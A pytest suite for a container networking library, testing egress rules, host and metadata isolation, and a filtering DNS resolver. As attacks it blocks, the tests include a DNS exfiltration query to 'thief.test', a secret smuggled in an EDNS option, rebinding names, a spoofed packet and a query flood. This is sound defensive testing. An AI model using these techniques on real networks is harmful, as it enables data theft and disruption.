"""The destinations that a container reaches outside, on the host and by name. Each attempt has a control that succeeds."""

from __future__ import annotations

import socket
import struct
import subprocess
import sys
import time

import network_lab as lab
import pytest
from name_server import NameServer

from containerkit.network import dns
from containerkit.spec.network import DNS, Egress

pytestmark = lab.NEEDS

FOUR, SIX = lab.OUTSIDE


@pytest.fixture
def where():
    with lab.Lab() as made:
        for address in (FOUR, SIX, *lab.PRIVATE):
            for port in (80, 443):
                made.listen("outside", address, port)
        yield made


def restrict(where: lab.Lab, name: str, egress: Egress | None) -> None:
    where.router_rules.set_egress(lab.ADDRESSES[name], egress)
    where.host_rules.set_egress(lab.ADDRESSES[name], egress)


def kinds(attendant) -> list[tuple[str, str, int]]:
    time.sleep(0.2)
    return [(each.kind, each.destination, each.port) for each in attendant.refusals()]


@pytest.mark.parametrize("address", [FOUR, SIX])
def test_container_reaches_outside_with_the_hosts_address(where, address):
    server = where.listen("outside", address, 8080)
    assert where.reaches("c1", address, 8080)
    accepted, client = server.accept()
    accepted.close()
    assert client[0] in ("45.0.113.1", "2a00:db8:9::1")


@pytest.mark.parametrize("address", [FOUR, SIX])
def test_egress_by_network_and_port_allows_only_these(where, address):
    attendant = where.attend()
    restrict(where, "c1", Egress.only(f"[{address}]:443" if ":" in address else f"{address}:443"))
    assert where.reaches("c1", address, 443)
    assert not where.reaches("c1", address, 80)
    assert ("egress", address, 80) in kinds(attendant)
    assert where.reaches("c2", address, 80)  # the control: another's rules are another's


def test_egress_of_nothing_refuses_both_versions_and_every_protocol(where):
    restrict(where, "c1", Egress.nothing())
    asking, answering = where.socket("c1", socket.AF_INET, socket.SOCK_DGRAM), None
    answering = where.socket("outside", socket.AF_INET, socket.SOCK_DGRAM)
    answering.bind((FOUR, 9999))
    answering.settimeout(0.5)
    asking.sendto(b"out", (FOUR, 9999))
    with pytest.raises(TimeoutError):
        answering.recv(10)
    assert not where.reaches("c1", FOUR, 80)
    assert not where.reaches("c1", SIX, 80)
    restrict(where, "c1", None)
    where.socket("c1", socket.AF_INET, socket.SOCK_DGRAM).sendto(b"out", (FOUR, 9999))
    assert answering.recv(10) == b"out"


@pytest.mark.parametrize("address", ["169.254.169.254", "100.100.100.200"])
def test_cloud_metadata_is_not_part_of_the_internet(where, address):
    assert not where.reaches("c1", address, 80)
    restrict(where, "c1", Egress.only(address))
    assert where.reaches("c1", address, 80)  # asked for, so it is there


def test_hosts_services_are_refused_unless_allowed(where):
    attendant = where.attend()
    for address in ("0.0.0.0", "::"):
        where.listen("host", address, 2222)
    for address in ("45.0.113.1", "10.87.0.1", "2a00:db8:9::1", "fd00:87::1"):
        assert not where.reaches("c1", address, 2222)
        assert where.reaches("outside", address, 2222)  # the control: it is there
    assert ("host", "45.0.113.1", 2222) in kinds(attendant)
    restrict(where, "c1", Egress.only("45.0.113.1:2222"))
    assert where.reaches("c1", "45.0.113.1", 2222)
    assert not where.reaches("c2", "45.0.113.1", 2222)


@pytest.mark.parametrize("rule", ["0.0.0.0/0", "45.0.113.0/24"])
def test_wide_rule_opens_neither_the_host_nor_private_ranges_nor_metadata(where, server, rule):
    where.listen("host", "0.0.0.0", 2222)
    by_name(where, server, Egress.only(rule, "rebinding.test"))
    assert where.reaches("c1", FOUR, 80)
    assert not where.reaches("c1", "45.0.113.1", 2222)
    for address in lab.PRIVATE:
        assert not where.reaches("c1", address, 80)
    assert ask(where, "c1", "rebinding.test") == (dns.NO_NAME, [])
    by_name(where, server, Egress.only(rule, "45.0.113.1", "10.0.0.0/8", "169.254.0.0/16", "rebinding.test"))
    assert where.reaches("c1", "45.0.113.1", 2222)
    assert where.reaches("c1", "10.99.0.9", 80)
    assert where.reaches("c1", "169.254.169.254", 80)


def test_router_refuses_known_addresses_of_the_host(where):
    where.listen("host", "0.0.0.0", 2222)
    where.host_rules.close()  # an unprivileged user's host has none
    where.ip("router", "route add 45.0.113.1 via 10.87.0.1")
    where.ip("outside", "route add 10.88.0.0/16 via 45.0.113.1")
    assert where.reaches("c1", "45.0.113.1", 2222)  # the control
    where.router_rules.set_host_addresses({"45.0.113.1", "127.0.0.1"})
    assert not where.reaches("c1", "45.0.113.1", 2222)
    assert where.reaches("c1", FOUR, 80)
    where.router_rules.set_egress(lab.ADDRESSES["c1"], Egress.only("45.0.113.0/24"))
    assert not where.reaches("c1", "45.0.113.1", 2222)
    where.router_rules.set_egress(lab.ADDRESSES["c1"], Egress.only("45.0.113.1:2222"))
    assert where.reaches("c1", "45.0.113.1", 2222)
    where.router_rules.set_host_addresses(())
    where.router_rules.set_egress(lab.ADDRESSES["c1"], None)
    assert where.reaches("c1", "45.0.113.1", 2222)


def test_routers_own_addresses_answer_only_dns(where):
    where.attend()
    where.listen("router", "0.0.0.0", 8080)
    for address in ("10.88.0.1", "10.87.0.2", "10.89.0.1"):
        assert not where.reaches("c1", address, 8080)
        assert where.reaches("router", address, 8080)
    assert where.reaches("c1", "10.88.0.1", 53)


def test_networks_do_not_reach_each_other(where):
    for name in ("c2", "c3"):
        for address in lab.ADDRESSES[name]:
            where.listen(name, address, 80)
    for address in lab.ADDRESSES["c3"]:
        assert not where.reaches("c1", address, 80)
    for address in lab.ADDRESSES["c2"]:
        assert where.reaches("c1", address, 80)


def test_neighbour_that_routes_by_the_host_reaches_no_container(where):
    where.listen("c1", "10.88.0.5", 80)
    assert where.reaches("host", "10.88.0.5", 80)
    assert not where.reaches("outside", "10.88.0.5", 80)  # its default route is the host
    where.host_rules.close()
    assert where.reaches("outside", "10.88.0.5", 80)  # the control


def test_host_does_not_begin_to_forward_for_others():
    with lab.Lab() as where:
        other = lab._fresh()
        where.spaces["other"] = other
        where.pair("other", "eth0", "host", "lan")
        where.ip("other", "addr add 198.51.100.9/24 dev eth0", "link set lo up")
        where.ip("other", "route add default via 198.51.100.1")
        where.ip("host", "addr add 198.51.100.1/24 dev lan")
        where.listen("other", "198.51.100.9", 80)
        assert where.reaches("outside", "198.51.100.9", 80)  # the control
        where.host_rules.close()
        from containerkit.network.host_rules import HostRules
        from containerkit.network.nfnetlink import Nfnetlink

        with where.spaces["host"].enter():
            where.host_rules = HostRules(Nfnetlink(), "ck1", forwards_only_ours=("eth0", "lan"))
        where.host_rules.add_subnet("10.88.0.0/16")
        assert not where.reaches("outside", "198.51.100.9", 80)
        where.listen("outside", FOUR, 80)
        assert where.reaches("c1", FOUR, 80)


@pytest.mark.parametrize("before", [Egress.only(FOUR), None])
def test_reused_address_does_not_keep_the_egress_of_its_previous_owner(where, before):
    if before is not None:
        restrict(where, "c1", before)
    assert where.reaches("c1", FOUR, 80)
    server = where.socket("outside", socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((FOUR, 5000))
    server.settimeout(0.5)
    client = where.socket("c1", socket.AF_INET, socket.SOCK_DGRAM)
    client.bind(("10.88.0.5", 4000))
    client.sendto(b"first", (FOUR, 5000))
    _, back = server.recvfrom(10)
    server.sendto(b"answer", back)  # the connection is known, and would let more of it pass
    if before is not None:
        restrict(where, "c1", None)
    where.router_rules.remove_endpoint("p1")
    where.router_rules.add_endpoint("p1", lab.MACS["c1"], lab.ADDRESSES["c1"])
    restrict(where, "c1", Egress.nothing())
    assert not where.reaches("c1", FOUR, 80)
    client.sendto(b"second", (FOUR, 5000))
    with pytest.raises(TimeoutError):
        server.recv(10)


# --- By name


def ask(where: lab.Lab, name: str, asked: str, kind: int = dns.A, stream: bool = False) -> tuple[int, list[str]]:
    """Send a DNS question from a container. Return the code and the addresses of the answer."""
    question = struct.pack(">6H", 77, 0x0100, 1, 0, 0, 0)
    question += b"".join(bytes((len(label),)) + label for label in asked.encode().split(b".")) + b"\0"
    question += struct.pack(">HH", kind, 1)
    gateway = "10.89.0.1" if name == "c3" else "10.88.0.1"
    asking = where.socket(name, socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM)
    asking.settimeout(6)
    asking.connect((gateway, 53))
    if stream:
        asking.sendall(struct.pack(">H", len(question)) + question)
        reply = asking.recv(4096)[2:]
    else:
        asking.send(question)
        reply = asking.recv(4096)
    asking.close()
    assert reply[:2] == question[:2]
    return reply[3] & 15, [each.address for each in dns.records(reply)]


@pytest.fixture
def server():
    names = {
        "allowed.test": (FOUR, SIX),
        "a.wild.test": (FOUR,),
        "other.test": (FOUR,),
        "rebinding.test": ("10.99.0.9",),
        "metadata.test": ("169.254.169.254",),
        "half.test": (FOUR, "127.0.0.1"),
        "translated.test": ("64:ff9b::10.99.0.9",),
        "tunnelled.test": ("2002:a63:9::1",),
        "mapped.test": ("::ffff:10.99.0.9",),
    }
    with NameServer(names) as made:
        yield made


def by_name(where: lab.Lab, server: NameServer, egress: Egress | None):
    attendant = where.attendant = getattr(where, "attendant", None) or where.attend()
    restrict(where, "c1", egress)
    attendant.set_policy("c1", DNS(servers=(server.address,)), egress)
    return attendant


def test_egress_by_name_allows_an_address_after_its_name_was_resolved(where, server):
    by_name(where, server, Egress.only("allowed.test:80", "*.wild.test"))
    assert not where.reaches("c1", FOUR, 80)  # nobody asked
    assert ask(where, "c1", "allowed.test") == (0, [FOUR])
    assert where.reaches("c1", FOUR, 80)
    assert not where.reaches("c1", FOUR, 443)  # of the rule's ports alone
    assert not where.reaches("c1", SIX, 80)  # asked for by A: the address of v6 was not
    assert ask(where, "c1", "allowed.test", dns.AAAA) == (0, [SIX])
    assert where.reaches("c1", SIX, 80)
    assert ask(where, "c1", "A.wild.TEST") == (0, [FOUR])
    assert where.reaches("c1", FOUR, 443)
    assert where.reaches("c2", FOUR, 80)  # without rules


def test_name_that_is_not_allowed_never_leaves_this_host(where, server):
    attendant = by_name(where, server, Egress.only("allowed.test"))
    stolen = "c2VjcmV0LXRva2Vu.thief.test"
    assert ask(where, "c1", stolen) == (dns.NO_NAME, [])
    assert ask(where, "c1", stolen, 16) == (dns.NO_NAME, [])  # TXT
    assert ask(where, "c1", stolen, stream=True) == (dns.NO_NAME, [])
    assert ask(where, "c1", "evilallowed.test") == (dns.NO_NAME, [])
    assert ask(where, "c1", "x.allowed.test") == (dns.NO_NAME, [])
    assert server.asked == []
    assert {each.name for each in attendant.refusals()} >= {stolen.lower(), "x.allowed.test"}
    assert ask(where, "c1", "allowed.test") == (0, [FOUR])
    assert server.asked == ["allowed.test"]  # the control


@pytest.mark.parametrize("name", ["mapped.test", "translated.test", "tunnelled.test"])
def test_ipv6_address_that_embeds_a_private_one_is_refused(where, server, name):
    attendant = by_name(where, server, Egress.only("*.test"))
    assert ask(where, "c1", name, dns.AAAA) == (dns.NO_NAME, [])
    assert [each.kind for each in attendant.refusals()] == ["rebinding"]


@pytest.mark.parametrize("name", ["rebinding.test", "metadata.test", "half.test"])
def test_name_that_resolves_to_a_private_address_is_refused(where, server, name):
    attendant = by_name(where, server, Egress.only("*.test", "half.test"))
    assert ask(where, "c1", name) == (dns.NO_NAME, [])
    assert [each.kind for each in attendant.refusals()] == ["rebinding"]
    assert not where.reaches("c1", server.names[name][0], 80)


def test_private_address_of_a_name_is_answered_where_its_network_is_allowed(where, server):
    by_name(where, server, Egress.only("rebinding.test", "10.99.0.0/24:80"))
    assert ask(where, "c1", "rebinding.test") == (0, ["10.99.0.9"])
    assert where.reaches("c1", "10.99.0.9", 80)
    assert ask(where, "c1", "mapped.test", dns.AAAA) == (dns.NO_NAME, [])


def test_names_of_one_container_have_a_bounded_number_of_addresses(where):
    names = {f"n{number}.wild.test": tuple(f"46.{number}.{last}.1" for last in range(60)) for number in range(80)}
    with NameServer(names) as server:
        by_name(where, server, Egress.only("*.wild.test"))
        codes = [ask(where, "c1", name, stream=True)[0] for name in names]
        assert codes[:68] == [0] * 68
        assert codes[69:] == [dns.NO_NAME] * 11
        listed = where.run("router", "nft list set inet containerkit named4")
        assert listed.count("expires") <= 4096
        restrict(where, "c1", None)
        assert "expires" not in where.run("router", "nft list set inet containerkit named4")


def test_edns_and_more_of_a_clients_message_are_not_forwarded(where, server):
    by_name(where, server, Egress.only("allowed.test"))
    asking = where.socket("c1", socket.AF_INET, socket.SOCK_DGRAM)
    asking.settimeout(3)
    question = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 1) + b"\7allowed\4test\0" + struct.pack(">HH", 1, 1)
    secret = b"carried out in an option"
    option = struct.pack(">BHHIHHH", 0, 41, 4096, 0, len(secret) + 4, 65001, len(secret)) + secret
    seen: list[bytes] = []
    answer = server._answer
    server._answer = lambda data: (seen.append(data), answer(data))[1]
    asking.sendto(question + option, ("10.88.0.1", 53))
    assert dns.records(asking.recv(4096))
    assert len(seen) == 1
    assert secret not in seen[0]
    assert b"\7allowed\4test" in seen[0]


def test_spoofed_source_cannot_ask_for_another_container(where, server):
    by_name(where, server, Egress.only("allowed.test"))
    payload = struct.pack(">6H", 1, 0x0100, 1, 0, 0, 0) + b"\5other\4test\0" + struct.pack(">HH", 1, 1)
    segment = struct.pack(">HHHH", 4000, 53, 8 + len(payload), 0) + payload
    for source, arrives in (("10.88.0.6", False), ("10.88.0.5", True)):
        head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0, 64, 17, 0)
        head += socket.inet_aton(source) + socket.inet_aton("10.88.0.1")
        head = head[:10] + struct.pack(">H", lab.checksum(head)) + head[12:]
        target = where.run("router", "ip -br link show br0").split()[2]
        router = where.wire("router", "br0")
        where.wire("c1").send(lab.ethernet(lab.MACS["c1"], 0x0800, head + segment, target))
        heard = where.hears(router, lab.ethernet(lab.MACS["c1"], 0x0800, head + segment, target))
        assert heard == arrives


def test_flood_of_questions_is_dropped_and_others_are_answered(where):
    attendant = where.attend()
    answered = 0
    answer_locally = attendant.resolver.answer_locally

    def counted(data, source):
        nonlocal answered
        answered += source == "10.88.0.5"
        return answer_locally(data, source)

    attendant.resolver.answer_locally = counted
    question = struct.pack(">6H", 1, 0x0100, 1, 0, 0, 0) + b"\2c2\0" + struct.pack(">HH", 1, 1)
    code = (
        "import socket, time; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('10.88.0.1', 53))\n"
        f"end = time.monotonic() + 1.5\nwhile time.monotonic() < end: s.send({question!r})"
    )
    began = time.monotonic()
    with where.spaces["c1"].enter():
        flood = subprocess.Popen([sys.executable, "-c", code])
    while flood.poll() is None:
        assert ask(where, "c2", "c1") == (0, ["10.88.0.5"])
        time.sleep(0.1)
    assert 500 <= answered <= 500 + 2000 * (time.monotonic() - began) + 100


def test_unknown_client_gets_no_answer(where, server):
    attendant = by_name(where, server, None)
    attendant.remove_container("c2")
    assert ask(where, "c2", "allowed.test") == (dns.REFUSED, [])
    assert ask(where, "c1", "allowed.test") == (0, [FOUR])


def test_answer_too_long_for_udp_comes_by_tcp(where):
    with NameServer({"long.test": tuple(f"45.0.113.{n}" for n in range(1, 60))}, long=True) as server:
        by_name(where, server, Egress.only("long.test"))
        code, found = ask(where, "c1", "long.test")
        assert (code, found) == (0, [])  # truncated
        code, found = ask(where, "c1", "long.test", stream=True)
        assert (code, len(found)) == (0, 59)
        assert server.streams == 1
        assert where.reaches("c1", FOUR, 80)


def test_question_by_tcp_is_answered_even_if_the_server_answers_only_by_udp(where):
    with NameServer({"short.test": (FOUR,)}, only_udp=True) as server:
        by_name(where, server, Egress.only("short.test"))
        assert ask(where, "c1", "short.test", stream=True) == (0, [FOUR])
        assert server.streams == 1
        assert where.reaches("c1", FOUR, 80)
    with NameServer({"long.test": (FOUR,)}, only_udp=True, long=True) as server:
        by_name(where, server, Egress.only("long.test"))
        assert ask(where, "c1", "long.test", stream=True) == (dns.SERVER_FAILURE, [])


# --- Names of containers


def test_packets_that_every_kernel_sends_are_not_logged(where):
    attendant = where.attend()
    group = where.socket("c1", socket.AF_INET, socket.SOCK_DGRAM)
    group.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("239.1.2.3") + bytes(4))
    where.ip("c1", "link set eth0 down", "link set eth0 up")
    time.sleep(1)
    assert [each for each in attendant.refusals() if each.kind == "router"] == []


def test_containers_of_one_network_find_each_other_and_no_others(where, server):
    by_name(where, server, Egress.nothing())
    assert ask(where, "c1", "c2") == (0, ["10.88.0.6"])
    assert ask(where, "c1", "C2.br0.test") == (0, ["10.88.0.6"])
    assert ask(where, "c1", "c2", dns.AAAA) == (0, ["fd00:88::6"])
    assert ask(where, "c1", "c2", stream=True) == (0, ["10.88.0.6"])
    assert ask(where, "c1", "c3") == (dns.NO_NAME, [])
    assert ask(where, "c3", "c2") == (dns.NO_NAME, [])
    assert server.asked == []


def test_known_name_without_the_requested_type_is_not_an_error(where):
    attendant = where.attend()
    attendant.add_container("four", "br0", ("10.88.0.9",), ("four",))
    assert ask(where, "c1", "four", dns.AAAA) == (0, [])
    assert ask(where, "c1", "four") == (0, ["10.88.0.9"])
    assert ask(where, "c1", "9.0.88.10.in-addr.arpa", dns.PTR)[0] == 0
    attendant.remove_container("four")
    assert ask(where, "c1", "four") == (dns.NO_NAME, [])


def test_container_on_two_networks_finds_those_of_both(where):
    attendant = where.attend()
    attendant.add_container("c1", "br1", ("10.89.0.77",), ("one",))
    assert ask(where, "c1", "c3") == (0, ["10.89.0.5"])
    assert ask(where, "c1", "c2") == (0, ["10.88.0.6"])
    assert ask(where, "c3", "one") == (0, ["10.89.0.77"])
    attendant.remove_container("c1", "br1")
    assert ask(where, "c1", "c3") == (dns.NO_NAME, [])
    assert ask(where, "c1", "c2") == (0, ["10.88.0.6"])
